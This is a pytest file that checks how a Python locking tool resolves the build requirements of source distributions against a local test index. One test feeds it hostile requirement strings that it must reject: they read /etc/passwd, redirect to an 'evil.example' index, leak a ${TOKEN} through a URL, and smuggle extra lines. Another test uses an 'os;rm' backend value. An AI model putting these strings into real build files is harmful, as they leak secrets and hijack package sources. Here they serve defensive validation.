"""Build requirements of source distributions, against an index on loopback."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from neve.errors import ManyErrors, NeveError, TransientError
from neve.fetch import Fetcher
from neve.lock.sdists import SdistPin
from neve.lock.sources import Resolved, Stale
from neve.progress import Silent
from neve.python.artefact import Artefact
from neve.python.sdist import Sdist
from neve.python.target import Target
from neve.python.uv import Uv
from neve.sources.git import Repositories
from neve.sources.reader import SourceReader
from tests.projects import a_wheel
from tests.python.sdists import sdist_tar, sdist_zip
from tests.world import World


def both(minor: int = 13) -> dict[str, tuple[Target, Target]]:
    """As the nixpkgs base has them: both architectures, both ends of the minor version."""
    return {
        architecture: (
            Target(python_full_version=f"3.{minor}.0", glibc=(2, 40), architecture=architecture),
            Target(python_full_version=f"3.{minor}.99", glibc=(2, 40), architecture=architecture),
        )
        for architecture in ("x86_64", "aarch64")
    }


def pyproject(*requires: str, backend: str = "maker.api", more: str = "") -> str:
    return f'[build-system]\nrequires = {json.dumps(requires)}\nbuild-backend = "{backend}"\n{more}'


def serve(world: World, name: str, text: str | None, *, suffix: str = ".tar.gz") -> Sdist:
    """A source distribution with ``text`` as its pyproject.toml; None for one with a setup.py alone."""
    root = f"{name}-1.0"
    files = {f"{root}/setup.py": ""} if text is None else {f"{root}/pyproject.toml": text}
    return serve_bytes(world, name, (sdist_zip if suffix == ".zip" else sdist_tar)(files), suffix=suffix)


def serve_bytes(world: World, name: str, content: bytes, *, suffix: str = ".tar.gz") -> Sdist:
    file = f"{name}-1.0{suffix}"
    world.server.files[f"/files/{file}"] = content
    return Sdist(
        name=name,
        version="1.0",
        file=file,
        url=f"{world.server.url}/files/{file}",
        sha256=hashlib.sha256(content).hexdigest(),
        size=None,
    )


@pytest.fixture
def resolve(world: World, tmp_path: Path) -> Resolve:
    return Resolve(world, tmp_path)


class Resolve:
    """Resolving for both architectures unless ``environments`` says otherwise."""

    def __init__(self, world: World, directory: Path) -> None:
        self.uv = Uv(directory, offline=False)
        fetcher = Fetcher(world.home / "fetched", Silent())
        self.reader = SourceReader(directory, fetcher, Repositories(world.home / "fetched", Silent()))

    def __call__(
        self,
        *sdists: Sdist,
        held: Iterable[SdistPin] = (),
        environments: Mapping[str, Sequence[Sdist]] | None = None,
        targets: Mapping[str, Sequence[Target]] | None = None,
    ) -> tuple[SdistPin, ...]:
        wheel = a_wheel("lemon")  # an environment has wheels too
        chosen = environments or dict.fromkeys(both(), sdists)
        environment: dict[str, tuple[Artefact, ...]] = {name: (wheel, *found) for name, found in chosen.items()}
        known = {pin.key: pin for pin in held}
        stale = Stale(environment, targets or both(), known, own="x86_64", reader=self.reader)
        return Resolved(pins=stale.resolve(self.uv).pins).tables()["sdists"]

    def unpinned(
        self, environments: Mapping[str, Sequence[Sdist]], held: Iterable[SdistPin], *, own: str
    ) -> list[object]:
        known = {pin.key: pin for pin in held}
        return [*Stale(environments, both(), known, own=own, reader=self.reader).new]

    def refused(self, *sdists: Sdist) -> NeveError:
        with pytest.raises(NeveError) as caught:
            self(*sdists)
        for error in caught.value.errors:
            assert error.where
            assert error.fixes
            assert not any("pyproject.toml" in fix for fix in error.fixes)  # it is not the user's
        return caught.value


def files(pins: Iterable[object]) -> list[str]:
    return [str(getattr(pin, "file", "")) for pin in pins]


def test_a_pin(world: World, resolve: Resolve) -> None:
    world.serve_wheel("needed", "2.0")
    digest = world.serve_wheel("maker", "3.9", requires=("needed",))
    sdist = serve(world, "old", pyproject("maker >=3", more='backend-path = ["_custom"]'))
    (pin,) = resolve(sdist)
    assert (pin.name, pin.version, pin.file, pin.url) == ("old", "1.0", "old-1.0.tar.gz", sdist.url)
    assert pin.sha256 == sdist.sha256
    assert (pin.backend, pin.backend_path, pin.requires) == ("maker.api", ("_custom",), ("maker>=3",))
    assert pin.targets == ("cp313-manylinux_2_40_x86_64", "cp313-manylinux_2_40_aarch64")
    assert files(pin.wheels) == ["maker-3.9-py3-none-any.whl", "needed-2.0-py3-none-any.whl"]
    assert pin.wheels[0].sha256 == digest
    assert {wheel.architecture for wheel in pin.wheels} == {None}
    assert SdistPin.model_validate(pin.model_dump(mode="json", by_alias=True)) == pin


@pytest.mark.parametrize("text", [None, "[tool.black]\n"])
def test_without_a_build_system_it_is_setuptools(world: World, resolve: Resolve, text: str | None) -> None:
    world.serve_wheel("setuptools", "80.0")
    world.serve_wheel("wheel", "0.45")
    (pin,) = resolve(serve(world, "old", text, suffix=".zip"))
    assert (pin.backend, pin.requires) == ("setuptools.build_meta:__legacy__", ("setuptools", "wheel"))
    assert files(pin.wheels) == ["setuptools-80.0-py3-none-any.whl", "wheel-0.45-py3-none-any.whl"]


def test_a_backend_in_the_tree_needs_nothing(world: World, resolve: Resolve) -> None:
    (pin,) = resolve(serve(world, "old", pyproject(more='backend-path = ["."]')))
    assert (pin.requires, pin.wheels) == ((), ())
    assert world.server.paths() == ["/files/old-1.0.tar.gz"]


def test_wheels_of_both_architectures(world: World, resolve: Resolve) -> None:
    for tag in ("cp313-cp313-manylinux_2_28_x86_64", "cp313-cp313-manylinux_2_28_aarch64", "cp313-cp313-win_amd64"):
        world.serve_wheel("cython", "3.0", tag=tag)
    world.serve_wheel("maker", "1.0")
    world.serve_wheel("armed", "1.0")
    requires = ("cython", "maker", "armed; platform_machine == 'aarch64'", "nowhere; sys_platform == 'win32'")
    (pin,) = resolve(serve(world, "old", pyproject(*requires)))
    assert pin.requires == ("cython", "maker", 'armed; platform_machine == "aarch64"')
    assert files(pin.wheels_for("x86_64")) == [
        "cython-3.0-cp313-cp313-manylinux_2_28_x86_64.whl",
        "maker-1.0-py3-none-any.whl",
    ]
    assert files(pin.wheels_for("aarch64")) == [
        "armed-1.0-py3-none-any.whl",
        "cython-3.0-cp313-cp313-manylinux_2_28_aarch64.whl",
        "maker-1.0-py3-none-any.whl",
    ]
    assert len(pin.wheels) == 4


def test_only_what_is_built_there_is_needed_there(world: World, resolve: Resolve) -> None:
    world.serve_wheel("cython", "3.0", tag="cp313-cp313-manylinux_2_28_aarch64")
    sdist = serve(world, "old", pyproject("cython"))
    (pin,) = resolve(environments={"x86_64": [], "aarch64": [sdist]})
    assert pin.targets == ("cp313-manylinux_2_40_aarch64",)
    assert files(pin.wheels) == ["cython-3.0-cp313-cp313-manylinux_2_28_aarch64.whl"]


def test_one_set_of_requirements_is_resolved_once(
    world: World, resolve: Resolve, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.serve_wheel("maker", "1.0")
    world.serve_wheel("other", "1.0")
    asked: list[list[str]] = []
    compile_ = resolve.uv.compile

    def spy(requirements: Sequence[str], *, python: str, fixes: Sequence[str]) -> str:
        asked.append([python, *requirements])
        return compile_(requirements, python=python, fixes=fixes)

    monkeypatch.setattr(resolve.uv, "compile", spy)
    alike = [serve(world, name, pyproject("maker", "other")) for name in ("c", "a")]
    pins = resolve(*alike, serve(world, "b", pyproject("other", "maker")), serve(world, "d", pyproject("other")))
    assert files(pins) == ["a-1.0.tar.gz", "b-1.0.tar.gz", "c-1.0.tar.gz", "d-1.0.tar.gz"]
    assert sorted(asked) == [["3.13", "maker", "other"], ["3.13", "other"]]
    assert pins[1].requires == ("other", "maker")  # as it says
    assert pins[0].wheels == pins[1].wheels


def test_what_is_pinned_stays(world: World, resolve: Resolve) -> None:
    world.serve_wheel("maker", "1.0")
    sdist = serve(world, "old", pyproject("maker"))
    held = resolve(sdist)
    world.serve_wheel("maker", "2.0")
    world.server.seen.clear()
    moved = replace(sdist, url="https://elsewhere.example/old-1.0.tar.gz")
    (kept,) = resolve(moved, held=held)
    assert world.server.seen == []
    assert kept == held[0].model_copy(update={"url": moved.url})
    assert resolve(held=held) == ()  # what is no longer there goes

    (new,) = resolve(sdist)
    assert new.wheels[0].version == "2.0"


def test_what_is_pinned_for_other_targets_is_resolved_anew(world: World, resolve: Resolve) -> None:
    world.serve_wheel("maker", "1.0")
    sdist = serve(world, "old", pyproject("maker"))
    one = resolve(environments={"x86_64": [sdist], "aarch64": []})
    assert not resolve.unpinned({"x86_64": [sdist]}, one, own="x86_64")
    assert resolve.unpinned({"x86_64": [sdist], "aarch64": [sdist]}, one, own="x86_64") == [sdist]
    (pin,) = resolve(sdist, held=one)
    assert len(pin.targets) == 2
    (newer,) = resolve(sdist, held=(pin,), targets=both(14))
    assert newer.targets[0] == "cp314-manylinux_2_40_x86_64"


def test_a_requirement_without_a_wheel_for_the_own_architecture(world: World, resolve: Resolve) -> None:
    world.serve_wheel("cython", "3.0", tag="cp313-cp313-manylinux_2_28_aarch64")
    text = str(resolve.refused(serve(world, "old", pyproject("cython"))))
    assert "old-1.0.tar.gz" in text
    assert "cython" in text
    assert "x86_64" in text


def test_a_requirement_without_a_wheel_for_another_architecture(world: World, resolve: Resolve) -> None:
    world.serve_wheel("cython", "3.0", tag="cp313-cp313-manylinux_2_28_x86_64")
    world.serve_wheel("maker", "1.0")
    sdist = serve(world, "old", pyproject("cython", "maker"))
    (pin,) = resolve(sdist)
    assert [*pin.lacking] == ["aarch64"]
    assert "cython" in pin.lacking["aarch64"]
    assert SdistPin.model_validate(pin.model_dump(mode="json", by_alias=True)) == pin
    assert [wheel.name for wheel in pin.wheels_for("x86_64")] == ["cython", "maker"]
    assert pin.wheels_for("aarch64") == ()
    environments = {"x86_64": [sdist], "aarch64": [sdist]}
    assert not resolve.unpinned(environments, [pin], own="x86_64")  # it is known, and not asked again
    assert resolve.unpinned(environments, [pin], own="aarch64") == [sdist]
    (alone,) = resolve(environments={"x86_64": [], "aarch64": [sdist]})
    assert (alone.wheels, [*alone.lacking]) == ((), ["aarch64"])


@pytest.mark.parametrize(
    ("requires", "names"),
    [
        (("setuptools<66",), ["setuptools", "wheel"]),
        (("setuptools<66", "wheel<1"), ["setuptools", "wheel"]),
        (("setuptools",), ["setuptools"]),
        (("setuptools-old",), ["setuptools", "setuptools-old", "wheel"]),
        (("maker",), ["maker"]),
    ],
)
def test_an_old_setuptools_gets_wheel(
    world: World, resolve: Resolve, requires: tuple[str, ...], names: list[str]
) -> None:
    """It asks for it only once it runs (PEP 517, get_requires_for_build_wheel)."""
    for version in ("65.5.1", "70.1.0"):
        world.serve_wheel("setuptools", version)
    world.serve_wheel("setuptools-old", "1.0", requires=("setuptools<70.1",))
    for name in ("wheel", "maker"):
        world.serve_wheel(name, "0.45")
    (pin,) = resolve(serve(world, "old", pyproject(*requires, backend="setuptools.build_meta")))
    assert [wheel.name for wheel in pin.wheels] == names
    assert pin.requires == requires  # as it says


def test_a_requirement_that_no_index_has(world: World, resolve: Resolve) -> None:
    world.serve_wheel("maker", "1.0")
    error = resolve.refused(
        serve(world, "old", pyproject("nowhere>=2")),
        serve(world, "older", pyproject("nowhere>=2")),
        serve(world, "fine", pyproject("maker")),
        serve(world, "worse", pyproject("maker>=7")),
    )
    assert isinstance(error, ManyErrors)
    assert len(error.errors) == 2
    first, second = error.errors
    assert first.what == "uv cannot resolve nowhere>=2, which old-1.0.tar.gz, older-1.0.tar.gz must be built with"
    assert "worse-1.0.tar.gz" in second.what


def test_requirements_that_depend_on_the_patch_level(world: World, resolve: Resolve) -> None:
    world.serve_wheel("maker", "1.0")
    world.serve_wheel("backport", "1.0")
    sdist = serve(world, "old", pyproject("maker", "backport; python_full_version < '3.13.4'"))
    error = resolve.refused(sdist)
    assert error.what == "what is installed depends on the patch level of Python: backport"
    assert str(error.where).endswith(", x86_64")


@pytest.mark.parametrize(
    ("requirement", "what"),
    [
        ("-r /etc/passwd", "is not a requirement"),
        ("--index-url=https://evil.example/simple", "is not a requirement"),
        ("maker\\n-e .", "is not a requirement"),
        ("maker; " + "(" * 3000, "is not a requirement"),
        ("maker; python_version ~= '3'", "is not a requirement"),
        ("maker; 'a' in extras", "is not a requirement"),
        ("maker @ https://evil.example/${TOKEN}.whl", "is a URL"),
        ("maker @ file:///etc/passwd", "is a URL"),
    ],
)
def test_requirements_that_are_none(world: World, resolve: Resolve, requirement: str, what: str) -> None:
    text = f'[build-system]\nrequires = ["{requirement}"]\nbuild-backend = "maker"\n'
    error = resolve.refused(serve(world, "old", text))
    assert what in error.what
    assert error.where == "old-1.0.tar.gz, pyproject.toml, build-system.requires"
    assert world.server.paths() == ["/files/old-1.0.tar.gz"]


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("a = = 1", "old-1.0.tar.gz, pyproject.toml:1"),
        ("build-system = 1", "old-1.0.tar.gz, pyproject.toml, build-system"),
        (pyproject("maker", backend="os;rm"), "old-1.0.tar.gz, pyproject.toml, build-system.build-backend"),
        (
            pyproject("maker", more='backend-path = ["../x"]'),
            "old-1.0.tar.gz, pyproject.toml, build-system.backend-path",
        ),
    ],
)
def test_a_pyproject_that_is_broken(world: World, resolve: Resolve, text: str, where: str) -> None:
    assert resolve.refused(serve(world, "old", text)).where == where


def test_archives_that_are_broken_are_named_together(world: World, resolve: Resolve) -> None:
    error = resolve.refused(serve_bytes(world, "old", b"x"), serve_bytes(world, "older", b"y", suffix=".zip"))
    assert isinstance(error, ManyErrors)
    assert ["old-1.0.tar.gz" in error.errors[0].what, "older-1.0.zip" in error.errors[1].what] == [True, True]


def test_an_archive_with_another_hash(world: World, resolve: Resolve) -> None:
    sdist = serve(world, "old", pyproject("maker"))
    world.server.files["/files/old-1.0.tar.gz"] += b"x"
    assert "old-1.0.tar.gz" in str(resolve.refused(sdist))


def test_an_index_that_is_down(world: World, resolve: Resolve, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UV_DEFAULT_INDEX", "http://127.0.0.1:9/simple")
    monkeypatch.setenv("UV_HTTP_RETRIES", "0")
    with pytest.raises(TransientError, match=r"old-1\.0\.tar\.gz"):
        resolve(serve(world, "old", pyproject("maker")))
